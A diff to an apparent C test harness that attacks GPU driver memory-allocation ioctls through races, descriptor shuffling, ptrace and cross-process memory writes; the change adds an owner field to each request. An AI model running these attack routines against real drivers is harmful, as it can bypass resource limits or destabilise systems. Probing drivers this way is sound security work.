@@ -154,7 +154,7 @@ static void by_entry(long (*entry)(int, struct rm_alloc *)) {
     uint64_t got = 0;
     long status = 0;
     for (int i = 0; i < 1000 && !status; i++) {
-        *params = (struct memory_params){.size = 64 * MIB};
+        *params = (struct memory_params){.owner = s.client, .size = 64 * MIB};
         *call = (struct rm_alloc){.root = s.client, .parent = s.device, .class = 0x40, .params = (uintptr_t)params, .params_size = sizeof *params, .status = 0xdead};
         status = entry(s.control, call);
         if (!status) status = call->status;
@@ -175,7 +175,7 @@ static void attack_x32(char **a) {
 /* NV_ESC_IOCTL_XFER_CMD around an allocation. */
 static void attack_xfer(char **a) {
     struct session s = begin();
-    struct memory_params params = {.size = number(a, 0, 8192) * MIB};
+    struct memory_params params = {.owner = s.client, .size = number(a, 0, 8192) * MIB};
     struct rm_alloc inner = {.root = s.client, .parent = s.device, .class = 0x40, .params = (uintptr_t)&params, .params_size = sizeof params, .status = 0xdead};
     struct rm_xfer call = {.command = 0x2b, .size = sizeof inner, .pointer = (uintptr_t)&inner};
     errno = 0;
@@ -208,6 +208,7 @@ static void *flip_class(void *unused) {
 static void attack_race(char **a) {
     struct session s = begin();
     uint64_t big = number(a, 0, 8192) * MIB, rounds = number(a, 1, 2000), got = 0, denied = 0;
+    racing.owner = s.client;
     pthread_t thread;
     pthread_create(&thread, NULL, flip_size, &big);
     for (uint64_t i = 0; i < rounds; i++) {
@@ -225,7 +226,7 @@ static void attack_race(char **a) {
 static void attack_race_class(char **a) {
     struct session s = begin();
     uint64_t rounds = number(a, 0, 2000);
-    struct memory_params params = {.size = 4096 * MIB};
+    struct memory_params params = {.owner = s.client, .size = 4096 * MIB};
     pthread_t thread;
     pthread_create(&thread, NULL, flip_class, NULL);
     for (uint64_t i = 0; i < rounds; i++) {
@@ -258,7 +259,7 @@ static void attack_close(char **a) {
     pthread_create(&thread, NULL, shuffle_files, &fd);
     long kinds[3] = {0};
     for (uint64_t i = 0; i < rounds; i++) {
-        struct memory_params params = {.size = 64 * MIB};
+        struct memory_params params = {.owner = s.client, .size = 64 * MIB};
         uint32_t handle = 0;
         long status = rm_alloc(fd, s.client, s.device, &handle, 0x40, &params, sizeof params);
         kinds[status == 0 ? 0 : status > 0 ? 1 : 2]++;
@@ -361,7 +362,7 @@ static void attack_handles(char **a) {
     uint64_t rounds = number(a, 0, 500);
     long twice = 0;
     for (uint64_t i = 0; i < rounds; i++) {
-        struct memory_params params = {.size = 64 * MIB};
+        struct memory_params params = {.owner = s.client, .size = 64 * MIB};
         uint32_t handle = 0xcafe0001, same = 0xcafe0001;
         if (rm_alloc(s.control, s.client, s.device, &handle, 0x40, &params, sizeof params)) continue;
         params.size = 64 * MIB;
@@ -588,7 +589,7 @@ static void attack_ptrace(char **a) {
     struct session s = begin();
     struct rm_alloc *call = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
     struct memory_params *params = (void *)(call + 1);
-    params->size = 1ull << 40;
+    params->owner = s.client, params->size = 1ull << 40;
     *call = (struct rm_alloc){.root = s.client, .parent = s.device, .class = 0x40, .params = (uintptr_t)params, .params_size = sizeof *params, .status = 0xdead};
     pid_t child = fork();
     if (child == 0) {
@@ -667,7 +668,7 @@ static void attack_ptrace_neighbour(char **a) {
     say("device", device.status);
     struct rm_alloc call;
     do {
-        struct memory_params params = {.size = 16 * MIB};
+        struct memory_params params = {.owner = root.handle, .size = 16 * MIB};
         here = (struct iovec){&params, sizeof params}, there = (struct iovec){(void *)params_at, sizeof params};
         process_vm_writev(pid, &here, 1, &there, 1, 0);
         call = (struct rm_alloc){.root = root.handle, .parent = device.handle, .class = 0x40, .params = params_at, .params_size = sizeof params, .status = 0xdead};
